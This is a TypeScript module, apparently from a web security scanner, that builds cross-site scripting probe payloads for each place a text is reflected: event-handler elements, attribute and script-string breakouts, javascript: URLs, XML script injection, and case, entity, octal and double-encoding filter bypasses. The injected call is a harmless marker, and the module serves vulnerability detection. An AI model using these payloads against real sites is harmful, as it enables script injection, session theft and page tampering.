import type { Scan } from '../../rule.ts';
import type { Context, Fate, Fates, Quote, Reflection } from './reflections.ts';
import type { CodePlace } from './script.ts';

/** Makes the texts that would run a harmless call of ours, for the place where a text comes back. */

export type Payload = {
  text: string;
  /** The piece of program in it, as it must stand in the page. */
  call: string;
  /** Already written for the wire. */
  raw?: boolean;
};

type Depth = Scan['depth'];

/** How our function may be called: plainly, without parentheses, as entities, with signs only. */
type Calls = { plain: string; tagged: string; entities: string; signs: string };

const entities = (text: string): string => [...text].map((char) => `&#${char.codePointAt(0)!};`).join('');
const octal = (text: string): string =>
  [...text].map((char) => `\\${char.codePointAt(0)!.toString(8)}`).join('');

function callsOf(mark: string, id: number): Calls {
  const plain = `${mark}(${id})`;
  return {
    plain,
    tagged: `${mark}\`${id}\``,
    entities: entities(plain),
    // Lives through filters that change the case of letters.
    signs: `[]['${octal('at')}']['${octal('constructor')}']('${octal(plain)}')()`,
  };
}

const limits: Record<Depth, { context: number; total: number }> = {
  few: { context: 3, total: 4 },
  usual: { context: 7, total: 12 },
  many: { context: 18, total: 45 },
};

/** Open to be tried: as it is, or taken away by a filter that may be got around, or not known. */
const may = (fate: Fate, depth: Depth): boolean =>
  fate === 'raw' || fate === 'cut' || (depth !== 'few' && (fate === 'gone' || fate === 'doubled'));

const as = (call: string, ...texts: string[]): Payload[] => texts.map((text) => ({ text, call }));
const after = (prefix: string, list: readonly Payload[]): Payload[] =>
  list.map((one) => ({ ...one, text: prefix + one.text }));

/** Elements that run the call, for a place between elements. Short ones first: fields have lengths. */
function elements({ plain, tagged, entities: coded }: Calls, fates: Fates, sameCase: boolean): Payload[] {
  if (!sameCase)
    return as(
      plain,
      `<svg onload=${coded}>`,
      `<img src onerror="${coded}">`,
      `<details open ontoggle=${coded}>`,
    );
  const around = [
    ...as(plain, `<sVg/OnLoAd=${plain}//`, `<scr<script>ipt>${plain}</scr</script>ipt>`),
    ...as(plain, `<svg ononload=load=${plain}>`, `<<b>svg onload=${plain}//`),
  ];
  if (fates.less === 'gone') return around;
  return [
    ...as(plain, `<svg onload=${plain}>`, `<script>${plain}</script>`, `<img src onerror=${plain}>`),
    ...around.slice(0, 2),
    ...as(plain, `<details open ontoggle=${plain}>`),
    ...as(tagged, `<svg onload=${tagged}>`),
    ...as(
      plain,
      `<svg onload=${coded}>`,
      `<x tabindex=1 autofocus onfocus=${plain}>`,
      `<iframe src=javascript:${plain}>`,
    ),
    ...around.slice(2),
    ...as(
      plain,
      `<ScRiPt\n>${plain}</sCrIpT\t>`,
      `<svg\fonload=${plain}>`,
      `<input autofocus onfocus=${plain}>`,
    ),
    ...as(plain, `<script src=data:,${plain}></script>`, `<video><source onerror=${plain}>`),
    ...as(plain, `<style>@keyframes x{}</style><x style=animation-name:x onanimationstart=${plain}>`),
    ...as(
      plain,
      `<svg><animate onbegin=${plain} attributeName=x dur=1s>`,
      `<a href="java&Tab;script:${plain}">${plain}</a>`,
    ),
  ];
}

/** Attributes that run the call, from inside the value of another. */
function attributes(calls: Calls, quote: Quote, tag: string, sameCase: boolean): Payload[] {
  const call = sameCase ? calls.plain : calls.entities;
  const { plain, tagged } = calls;
  const begin = quote === '' ? 'x' : quote;
  const own = /^(img|script|video|audio)$/.test(tag) ? [`${begin} onerror=${call} src=/${quote}`] : [];
  if (tag === 'body' || tag === 'svg') own.push(`${begin} onload=${call} x=${quote}`);
  return [
    ...as(
      plain,
      ...own,
      `${begin} autofocus tabindex=1 onfocus=${call} x=${quote}`,
      `${begin} onmouseover=${call} x=${quote}`,
    ),
    // The one event of elements that nobody sees.
    ...as(
      plain,
      `${begin} style=display:block;content-visibility:auto oncontentvisibilityautostatechange=${call} x=${quote}`,
    ),
    ...as(tagged, `${begin} autofocus tabindex=1 onfocus=${tagged} x=${quote}`),
    ...(quote === '' ? [] : as(plain, `${quote}/autofocus/onfocus=${quote}${call}`)),
    ...as(
      plain,
      `${begin}\nautofocus\ntabindex=1\nOnFocus=${call}\nx=${quote}`,
      `${begin}\fautofocus\fonfocus=${call}\fx=${quote}`,
    ),
    ...as(plain, `${begin} ononfocus=focus=${call} autofocus tabindex=1 x=${quote}`),
  ];
}

function addresses({ plain, tagged }: Calls, tag: string): Payload[] {
  if (tag === 'script') return as(plain, `data:,${plain}`, `data:text/javascript,${plain}`);
  return [
    ...as(plain, `javascript:${plain}`, `JaVaScRiPt:${plain}`, `java\tscript:${plain}`),
    ...as(
      plain,
      ` javascript:${plain}`,
      `javascript://example.com/%0a${plain}`,
      `javajavascript:script:${plain}`,
    ),
    ...as(tagged, `javascript:${tagged}`),
    ...as(
      plain,
      `\u0001javascript:${plain}`,
      `java\nscript:${plain}`,
      `javascript:${plain}//http://`,
      `javascript:${plain.replace('(', '%28')}`,
    ),
  ];
}

/** Ways out of a piece of text in a script; `fate` is what becomes of its quotation mark. */
function inScript(calls: Calls, place: CodePlace, fate: Fate, sameCase: boolean): Payload[] {
  const { tagged } = calls;
  const plain = sameCase ? calls.plain : calls.signs;
  switch (place) {
    case 'single':
    case 'double': {
      const quote = place === 'single' ? "'" : '"';
      // A backslash before ours makes theirs a sign of its own.
      if (fate === 'escaped')
        return as(
          plain,
          `\\${quote};${plain}//`,
          `\\${quote});${plain}//`,
          `\\${quote}});${plain}//`,
          `\\${quote}]);${plain}//`,
        );
      return [
        ...as(
          plain,
          `${quote}-${plain}-${quote}`,
          `${quote};${plain}//`,
          `${quote}+${plain}+${quote}`,
          `${quote});${plain}//`,
        ),
        ...as(tagged, `${quote}-${tagged}-${quote}`),
        ...as(
          plain,
          `${quote}});${plain}//`,
          `${quote};}${plain};{//`,
          `${quote},${plain},${quote}`,
          `${quote}]);${plain}//`,
        ),
        ...as(plain, `${quote}\n;${plain}//`, `${quote}:${plain},x:${quote}`, `${quote}});});${plain}//`),
      ];
    }
    case 'template':
      return [
        ...as(plain, `\${${plain}}`, `\`-${plain}-\``, `\`;${plain}//`),
        ...as(tagged, `\${${tagged}}`),
      ];
    case 'line-comment':
      return as(plain, `\n${plain}//`, `\r${plain}//`, `\u2028${plain}//`);
    case 'block-comment':
      return as(plain, `*/${plain}/*`, `*/;${plain};/*`);
    case 'regex':
      return as(plain, `x/-${plain}-/x`, `x/;${plain}//`, `x/);${plain}//`);
    case 'code':
      return [
        ...as(plain, plain, `1;${plain}`, `1;${plain}//`),
        ...as(tagged, tagged),
        ...as(
          plain,
          `1);${plain}//`,
          `x=${plain}`,
          `1});${plain}//`,
          `x:${plain}`,
          `1]);${plain}//`,
          `\n${plain}\n`,
          `{};${plain}//`,
        ),
      ];
  }
}

/** In attributes that are read as program, entities are signs again. */
const decoded = (fates: Fates): Fates =>
  Object.fromEntries(
    Object.entries(fates).map(([name, fate]) => [
      name,
      fate === 'entity' ? 'raw' : fate === 'entity-twice' ? 'entity' : fate,
    ]),
  ) as Fates;

const fateOf = (fates: Fates, quote: Quote): Fate =>
  quote === '' ? 'raw' : fates[quote === '"' ? 'double' : 'single'];

/** The likeliest of each list first, so that a small depth has some of both. */
const mixed = (
  one: readonly Payload[],
  other: readonly Payload[],
  first: number,
  second: number,
): Payload[] => [
  ...one.slice(0, first),
  ...other.slice(0, second),
  ...one.slice(first),
  ...other.slice(second),
];

type Rest = Omit<Reflection, 'context' | 'offset'>;
type In<At extends Context['at']> = Extract<Context, { at: At }>;

/** The ways out of a place: what ends it, and markup or attributes behind. */
function waysOut({ fates, sameCase, inert }: Rest, calls: Calls, depth: Depth) {
  const markup = (prefix: string) =>
    may(fates.less, depth)
      ? after(prefix + (inert === '' ? '' : `</${inert}>`), elements(calls, fates, sameCase))
      : [];
  return {
    markup,
    outOfAttribute: (quote: Quote, tag: string) => {
      if (!may(fateOf(fates, quote), depth)) return [];
      const inside = inert === '' ? attributes(calls, quote, tag, sameCase) : [];
      return mixed(fates.greater === 'raw' ? markup(quote === '' ? 'x>' : `${quote}>`) : [], inside, 2, 3);
    },
  };
}

type Ways = ReturnType<typeof waysOut>;

function inDocument(context: In<'document'>, rest: Rest, calls: Calls, depth: Depth, ways: Ways): Payload[] {
  const inner = forContext(context.inner, { ...rest, fates: decoded(rest.fates) }, calls, depth);
  // Its quotation marks would end the attribute where they come back as they are.
  const fitting = inner.filter(({ text }) => context.quote === '' || !text.includes(context.quote));
  return mixed(fitting, ways.outOfAttribute(context.quote, 'iframe'), 3, 2);
}

function inProgram(
  context: In<'script'>,
  { fates, sameCase }: Rest,
  calls: Calls,
  depth: Depth,
  { markup, outOfAttribute }: Ways,
): Payload[] {
  const quote = context.in === 'double' ? '"' : context.in === 'single' ? "'" : '';
  const fate = fateOf(context.of === 'element' ? fates : decoded(fates), quote);
  const open = fate === 'escaped' ? depth !== 'few' : may(fate, depth);
  const inside = open ? inScript(calls, context.in, fate, sameCase) : [];
  if (context.of !== 'element') return mixed(inside, outOfAttribute(context.quote, ''), 4, 2);
  const behind = fates.slash === 'raw' || fates.slash === 'cut' ? markup('</script>') : [];
  return fates.less === 'raw' ? mixed(behind, inside, 1, 3) : [...inside, ...behind];
}

function inXml(context: In<'xml'>, { fates }: Rest, calls: Calls, depth: Depth): Payload[] {
  if (!may(fates.less, depth)) return [];
  const prefix = { text: '', attribute: '"/>', section: ']]>' }[context.in];
  const script = (space: string) =>
    `${prefix}<zq:script xmlns:zq="http://www.w3.org/${space}">${calls.plain}</zq:script>`;
  return as(calls.plain, script('1999/xhtml'), script('2000/svg'));
}

function forContext(context: Context, rest: Rest, calls: Calls, depth: Depth): Payload[] {
  const ways = waysOut(rest, calls, depth);
  const { markup, outOfAttribute } = ways;
  switch (context.at) {
    case 'text':
      return markup('');
    case 'raw':
      return context.element === 'plaintext' ? [] : markup(`</${context.element}>`);
    case 'comment':
      return [...markup('-->'), ...(depth === 'many' ? markup('--!>') : [])];
    case 'attribute':
      return outOfAttribute(context.quote, context.tag);
    case 'address':
      return mixed(
        rest.sameCase ? addresses(calls, context.tag) : [],
        outOfAttribute(context.quote, context.tag),
        2,
        2,
      );
    case 'document':
      return inDocument(context, rest, calls, depth, ways);
    case 'name':
      return context.of === 'element'
        ? [...as(calls.plain, `svg onload=${calls.plain} x`), ...markup('x>')]
        : mixed(attributes(calls, '', '', rest.sameCase), markup('x>'), 2, 2);
    case 'script':
      return inProgram(context, rest, calls, depth, ways);
    case 'xml':
      return inXml(context, rest, calls, depth);
  }
}

/** Payloads for one place, the likeliest first. Empty where the signs that are needed come back harmless. */
export function payloadsFor(reflection: Reflection, mark: string, id: number, depth: Depth): Payload[] {
  return forContext(reflection.context, reflection, callsOf(mark, id), depth).slice(0, limits[depth].context);
}

/** For programs that decode once more after they have made the text harmless. */
export function twiceEncoded(reflection: Reflection, mark: string, id: number, depth: Depth): Payload[] {
  const raw = Object.fromEntries(Object.keys(reflection.fates).map((name) => [name, 'raw'])) as Fates;
  const [first] = forContext(reflection.context, { ...reflection, fates: raw }, callsOf(mark, id), depth);
  return first ? [{ ...first, text: encodeURIComponent(encodeURIComponent(first.text)), raw: true }] : [];
}

export const mostTried = (depth: Depth): number => limits[depth].total;
